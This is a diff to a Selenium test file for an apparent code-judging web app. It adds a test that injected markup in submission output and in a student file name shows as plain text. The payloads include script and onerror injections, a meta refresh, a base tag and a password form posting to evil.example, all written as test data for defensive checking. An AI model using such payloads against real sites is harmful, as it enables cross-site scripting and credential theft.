@@ -12,6 +12,7 @@ import os
 import shutil
 import subprocess
 import sys
+import time
 from pathlib import Path
 
 import pytest
@@ -24,6 +25,19 @@ WAIT_S = 180
 PACKAGE = REPO / "problems" / SLUG
 WRONG = (PACKAGE / "submissions" / "wrong_answer" / "population-std-activation.py").read_text()
 RIGHT = (REPO / "solutions" / f"{SLUG}.py").read_text()
+INJECTION = ('<script>window.pwned = 1</script><img id="injected-img" src="x" onerror="window.pwned = 2">'
+             '<meta http-equiv="refresh" content="0;url=about:blank"><base href="https://evil.example/">'
+             '<form id="injected-form" action="https://evil.example/"><input name="pw"></form>'
+             '<b id="injected-b" style="position:fixed;inset:0">cover</b> ]]> ``` \x1b[31m')
+HOSTILE = RIGHT + f"""
+
+class Solution(Solution):
+    def compute_activation_stats(self, model, x):
+        print({INJECTION!r})
+        raise ValueError({INJECTION!r})
+"""
+HOSTILE_STUDENT = '<img src=x onerror="window.pwned=3"> & co'
+"""a student id (a file name) that is markup itself"""
 
 if not (os.access(CHROMIUM, os.X_OK) and os.access(CHROMEDRIVER, os.X_OK)):
     pytest.skip(f"no {CHROMIUM} and {CHROMEDRIVER}: apt-get install -y chromium chromium-driver",
@@ -43,6 +57,7 @@ def graded(tmp_path_factory) -> Path:
     (base / "submissions").mkdir()
     (base / "submissions" / "ada.py").write_text(RIGHT)
     (base / "submissions" / "bob.py").write_text(WRONG)
+    (base / "submissions" / f"{HOSTILE_STUDENT}.py").write_text(HOSTILE)
     result = subprocess.run([sys.executable, "-m", "judge", "grade", SLUG, str(base / "submissions"),
                              "--out", str(base / "graded")], capture_output=True, text=True, env=judge_env(None))
     assert result.returncode == 0, result.stdout + result.stderr
@@ -166,7 +181,7 @@ def test_the_learner_flow_and_the_instructor_view_in_chromium(site, browser, sho
 
     driver.find_element(By.LINK_TEXT, "Class results").click()
     _wait(driver, EC.presence_of_element_located((By.TAG_NAME, "svg")))
-    assert "2 students · 1 accepted" in driver.find_element(By.TAG_NAME, "body").text
+    assert "3 students · 1 accepted" in driver.find_element(By.TAG_NAME, "body").text
     driver.save_screenshot(str(shots / "07-class-overview.png"))
     rows = driver.find_elements(By.CSS_SELECTOR, "table tr")
     next(r for r in rows if r.text.startswith("bob")).find_element(By.LINK_TEXT, "report").click()
@@ -174,3 +189,46 @@ def test_the_learner_flow_and_the_instructor_view_in_chromium(site, browser, sho
     page = driver.find_element(By.TAG_NAME, "body").text
     assert "Student bob" in page and "wrong_answer" in page and "correction=0" in page
     driver.save_screenshot(str(shots / "08-class-student.png"))
+
+
+REFRESH_WAIT_S = 1.5
+"""long enough for an injected ``<meta http-equiv="refresh" content="0">`` to have fired"""
+
+
+def _nothing_injected(driver, shown: str = "window.pwned = 1</script>") -> None:
+    """The injected markup is on the page as text, and none of it acted: no element, no script, no redirect."""
+    here = driver.current_url
+    time.sleep(REFRESH_WAIT_S)
+    assert driver.current_url == here, f"the page went to {driver.current_url}"
+    assert not driver.find_elements(By.CSS_SELECTOR, "#injected-img, #injected-form, #injected-b, base, form input")
+    assert driver.execute_script("return window.pwned") is None
+    assert shown in driver.find_element(By.TAG_NAME, "body").text
+
+
+def test_injected_markup_shows_as_text_in_the_result_panel_and_the_instructor_view(site, browser, shots):
+    driver = browser
+    driver.get(f"{site.base}/problems/{SLUG}")
+    _wait(driver, EC.presence_of_element_located((By.CSS_SELECTOR, ".CodeMirror")))
+    _set_editor(driver, HOSTILE)
+    driver.find_element(By.ID, "run").click()
+    assert _judged(driver) == "runtime_error"
+    _nothing_injected(driver)
+    driver.save_screenshot(str(shots / "09-run-injected-markup.png"))
+
+    driver.get(f"{site.base}/problems/{SLUG}/history")
+    driver.find_element(By.CSS_SELECTOR, "table.history a").click()  # the newest attempt: the hostile one
+    _wait(driver, EC.presence_of_element_located((By.CSS_SELECTOR, "pre.code")))
+    assert "/attempts/" in driver.current_url
+    _nothing_injected(driver)
+
+    driver.get(f"{site.base}/class/")
+    _wait(driver, EC.presence_of_element_located((By.TAG_NAME, "svg")))
+    row = next(r for r in driver.find_elements(By.CSS_SELECTOR, "table tr") if r.text.startswith("<img"))
+    assert row.text.startswith(HOSTILE_STUDENT)
+    _nothing_injected(driver, HOSTILE_STUDENT)  # the overview, whose student ids are file names
+    row = next(r for r in driver.find_elements(By.CSS_SELECTOR, "table tr") if r.text.startswith("<img"))
+    row.find_element(By.LINK_TEXT, "report").click()
+    _wait(driver, EC.presence_of_element_located((By.CSS_SELECTOR, "pre.code")))
+    assert driver.find_element(By.TAG_NAME, "h1").text == f"Student {HOSTILE_STUDENT}"
+    _nothing_injected(driver)
+    driver.save_screenshot(str(shots / "10-class-student-injected-markup.png"))
